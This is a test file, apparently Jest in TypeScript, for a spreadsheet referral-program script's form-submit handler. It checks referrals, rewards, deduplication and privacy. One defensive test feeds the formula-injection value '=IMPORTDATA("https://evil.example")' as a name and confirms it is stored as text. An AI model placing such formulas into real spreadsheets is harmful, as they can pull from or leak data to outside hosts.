import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { createContext, Script, type Context } from 'node:vm';
import { fakeHost, type FakeHost } from './test/sheets.ts';

const at = (path: string): string => fileURLToPath(new URL(path, import.meta.url));
execFileSync(process.execPath, [at('build.mjs')]);
const code = readFileSync(at('dist/Code.js'), 'utf8');

const program = {
  id: 'glow',
  name: 'Glow',
  version: 1,
  currency: 'USD',
  timezone: 'Etc/UTC',
  timezoneRule: 'UTC0',
  roles: ['patient'],
  fields: {
    invitee: {
      visits: { type: 'number', label: 'How many visits' },
      insurer: { type: 'string', label: 'Insurer', personal: true },
    },
  },
  attribution: { match: ['code', 'email'] },
  lifecycle: {
    initial: 'submitted',
    stages: [{ id: 'submitted' }, { id: 'paid', qualifies: true }],
    transitions: [{ on: 'purchase.completed', to: 'paid' }],
  },
  rewards: [
    {
      id: 'thanks',
      to: 'advocate',
      on: { enter: 'submitted' },
      give: { kind: 'points', amount: 10 },
      limits: [{ maxCount: 5, per: 'advocate', period: 'week' }],
    },
  ],
};

/** The very Code.js in a context that has the language and the fake services, nothing else. */
function openSheet(): FakeHost & { submit(answers: Record<string, string>, stamp?: string): void; context: Context } {
  const host = fakeHost();
  const text = JSON.stringify(program);
  host.book.add('Program', [[text.slice(0, 100)], [text.slice(100)]]);
  const context = createContext({ ...host.globals }, { codeGeneration: { strings: false, wasm: false } });
  new Script("for (const name of ['console', 'WebAssembly']) delete globalThis[name];").runInContext(context);
  new Script(code).runInContext(context);
  let row = 0;
  return {
    ...host,
    context,
    submit(answers, stamp = '2026-03-01T15:00:00.000Z') {
      row += 1;
      const name = `Answers ${row}`;
      host.book.add(name, [[new Date(stamp), ...Object.values(answers)]]);
      const namedValues = Object.fromEntries(Object.entries(answers).map(([title, answer]) => [title, [answer]]));
      (context['onFormSubmit'] as (event: object) => void)({
        namedValues,
        range: host.range(name, 1),
        values: Object.values(answers),
      });
    },
  };
}

/** The rows of a tab as objects. */
function rows(host: FakeHost, name: string): Record<string, unknown>[] {
  const [titles = [], ...lines] = host.book.read(name) ?? [];
  return lines.map((line) => Object.fromEntries(titles.map((title, index) => [String(title), line[index]])));
}

const ada = { Name: 'Ada Keller', Email: 'ada@example.com' };
const friendOf = (host: FakeHost, more: Record<string, string> = {}) => ({
  'Referral code': String(rows(host, 'Advocates')[0]?.['Share code']),
  Name: 'Ben Ortiz',
  Email: 'ben@example.com',
  ...more,
});

function joined() {
  const host = openSheet();
  host.submit(ada);
  return host;
}

describe('onFormSubmit, the built file in a bare context', () => {
  test('is a function at the top, with its comment', () => {
    expect(code).toMatch(/\*\/\nfunction onFormSubmit\(\) \{/);
    expect(Buffer.byteLength(code)).toBeLessThanOrEqual(450_000);
  });

  test('a form without a code makes an advocate, with a share code', () => {
    const host = joined();
    expect(rows(host, 'Advocates')).toEqual([
      expect.objectContaining({
        Name: 'Ada Keller',
        'E-mail': 'ada@example.com',
        'Share code': expect.stringMatching(/^[0-9A-Z]{12}$/) as string,
        Referrals: 0,
      }),
    ]);
  });

  test('a form with a code decides one row: referral, reward, and why', () => {
    const host = joined();
    host.submit(friendOf(host), '2026-03-02T09:30:00.000Z');
    const [{ Id: advocate } = {}] = rows(host, 'Advocates');
    expect(rows(host, 'Advocates')).toEqual([expect.objectContaining({ Referrals: 1 })]);
    expect(rows(host, 'Referrals')).toEqual([
      expect.objectContaining({
        Invitee: 'Ben Ortiz',
        'E-mail': 'ben@example.com',
        Advocate: advocate,
        Stage: 'submitted',
        Verdict: 'clear',
        'Referred at': '2026-03-02T09:30:00Z',
      }),
    ]);
    expect(rows(host, 'Rewards')).toEqual([
      expect.objectContaining({ Rule: 'thanks', Person: advocate, Kind: 'points', Quantity: 10, State: 'available' }),
    ]);
    expect(rows(host, 'Log')).toEqual([
      expect.objectContaining({ Type: 'advocate.joined', Outcome: 'decided' }),
      expect.objectContaining({
        Type: 'referral.submitted',
        Outcome: 'decided',
        Why: expect.stringContaining('10 points') as string,
      }),
    ]);
  });

  test('an answer that is delivered twice is decided once', () => {
    const host = joined();
    const answers = friendOf(host);
    host.submit(answers);
    const before = ['Advocates', 'Referrals', 'Rewards', 'Log', 'Records'].map((name) => host.book.read(name));
    host.submit(answers, '2026-03-02T15:00:05.000Z');
    expect(['Advocates', 'Referrals', 'Rewards', 'Log', 'Records'].map((name) => host.book.read(name))).toEqual(before);
  });

  test('a friend who was referred before is written down and earns nothing more', () => {
    const host = joined();
    host.submit(friendOf(host));
    host.submit(friendOf(host, { Name: 'Benjamin' }));
    expect(rows(host, 'Referrals')).toHaveLength(1);
    expect(rows(host, 'Referrals')[0]).toMatchObject({ Invitee: 'Ben Ortiz' });
    expect(rows(host, 'Rewards')).toHaveLength(1);
    expect(rows(host, 'Log').at(-1)).toMatchObject({
      Outcome: 'already_referred',
      Why: expect.stringMatching(/\w/) as string,
    });
  });

  test.each([
    ['no values', {}],
    ['blank values', { Name: ' ', Email: '' }],
  ])('an event with %s is ignored', (_name, answers) => {
    const host = openSheet();
    host.submit(answers);
    expect(host.calls.has('Lock.waitLock')).toBe(false);
    expect(host.book.read('Log')).toBeUndefined();
  });

  test('an answer that concerns nobody is written down with the reason', () => {
    const host = openSheet();
    host.submit({ Name: 'Nobody' });
    expect(rows(host, 'Log')).toEqual([
      expect.objectContaining({ Outcome: 'not decided', Why: expect.stringContaining('RK203') as string }),
    ]);
  });

  test('what people type stays text: no formula, no lost zero', () => {
    const host = openSheet();
    host.submit({ Name: '=IMPORTDATA("https://evil.example")', Email: '+49170@example.com' });
    expect(rows(host, 'Advocates')).toEqual([
      expect.objectContaining({ Name: '=IMPORTDATA("https://evil.example")', 'E-mail': '+49170@example.com' }),
    ]);
  });

  test('addresses and personal answers do not reach the records', () => {
    const host = joined();
    host.submit(friendOf(host, { 'How many visits': '3', Insurer: 'Acme Health' }));
    const kept = JSON.stringify([host.book.read('Records'), host.book.read('Log')]);
    expect(kept).toContain('visits');
    expect(kept).not.toMatch(/ben@example|ada@example|Acme|Ortiz/);
    expect(host.book.isHidden('Records')).toBe(true);
  });

  test('columns that were moved or added keep their place', () => {
    const host = openSheet();
    host.book.add('Advocates', [['Notes', 'Name', 'Id', 'Referrals']]);
    host.submit(ada);
    expect(rows(host, 'Advocates')).toEqual([
      expect.objectContaining({ Notes: '', Name: 'Ada Keller', Referrals: 0, Role: 'patient' }),
    ]);
    expect(host.book.read('Advocates')?.[0]?.slice(0, 4)).toEqual(['Notes', 'Name', 'Id', 'Referrals']);
  });

  test('the lock is given back when something goes wrong', () => {
    const host = openSheet();
    host.book.add('Program', [['{']]);
    expect(() => host.submit(ada)).toThrow('JSON');
    expect(host.locked()).toBe(false);
  });
});
